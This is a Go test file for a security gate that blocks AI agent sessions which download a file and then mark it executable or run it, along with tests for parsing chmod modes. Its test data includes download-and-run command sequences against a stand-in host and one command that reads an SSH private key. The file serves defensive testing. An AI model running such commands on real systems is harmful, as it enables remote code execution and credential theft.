package shield

import (
	"context"
	"encoding/json"
	"testing"

	"github.com/parallax/parallax/verdict"
)

// The commands here are test data passed to the gate as Go strings; the
// gate never runs anything.

func TestSessionDownloadExec(t *testing.T) {
	type step struct {
		session, typ, payload string
		want                  verdict.Decision
		rule                  string
	}
	dl := cmdPayload("curl -sSo /home/dev/project/tool https://x.example/tool")
	tests := []struct {
		name  string
		steps []step
	}{
		{"download, chmod +x", []step{
			{"s1", "execute_command", dl, verdict.Allow, ""},
			{"s1", "execute_command", cmdPayload("chmod +x tool"), verdict.Block, RuleSessionDownloadExec},
		}},
		{"download, run", []step{
			{"s1", "execute_command", dl, verdict.Allow, ""},
			{"s1", "execute_command", cmdPayload("./tool --help"), verdict.Block, RuleSessionDownloadExec},
		}},
		{"download, run through sh", []step{
			{"s1", "execute_command", dl, verdict.Allow, ""},
			{"s1", "execute_command", cmdPayload("sh tool"), verdict.Block, RuleSessionDownloadExec},
		}},
		{"typed download, run", []step{
			{"s1", "download_file", `{"url":"https://x.example/a","path":"/home/dev/project/agent"}`, verdict.Allow, ""},
			{"s1", "execute_command", cmdPayload("/home/dev/project/agent"), verdict.Block, RuleSessionDownloadExec},
		}},
		{"download, chmod 644 is no exec", []step{
			{"s1", "execute_command", dl, verdict.Allow, ""},
			{"s1", "execute_command", cmdPayload("chmod 644 tool"), verdict.Allow, ""},
		}},
		{"another session is not tainted", []step{
			{"s1", "execute_command", dl, verdict.Allow, ""},
			{"s2", "execute_command", cmdPayload("chmod +x tool"), verdict.Allow, ""},
		}},
		{"no session: nothing remembered", []step{
			{"", "execute_command", dl, verdict.Allow, ""},
			{"", "execute_command", cmdPayload("chmod +x tool"), verdict.Allow, ""},
		}},
		{"blocked download is not remembered", []step{
			{"s1", "execute_command", cmdPayload("curl -so /home/dev/project/tool https://x.example/t && cat ~/.ssh/id_rsa"), verdict.Block, ""},
			{"s1", "execute_command", cmdPayload("chmod +x tool"), verdict.Allow, ""},
		}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			g := newTestGate(t, "default")
			for i, s := range tc.steps {
				v := g.Evaluate(context.Background(), Request{Session: s.session, Type: s.typ, Payload: json.RawMessage(s.payload)})
				if v.Decision != s.want && !(s.want == verdict.Allow && v.Decision == verdict.Escalate) {
					t.Fatalf("step %d: got %v (%s: %s), want %v", i, v.Decision, v.Rule, v.Reason, s.want)
				}
				if s.rule != "" && v.Rule != s.rule {
					t.Fatalf("step %d: got rule %s, want %s", i, v.Rule, s.rule)
				}
			}
		})
	}
}

func TestModeAddsExec(t *testing.T) {
	tests := map[string]bool{
		"+x": true, "u+x": true, "a+rx": true, "u=rwx,go=rx": true, "755": true, "0700": true, "4755": true,
		"644": false, "0600": false, "-x": false, "go-w": false, "u+r": false, "-R": false, "": true,
	}
	for m, want := range tests {
		if got := modeAddsExec(m); got != want {
			t.Errorf("modeAddsExec(%q): got %v, want %v", m, got, want)
		}
	}
}
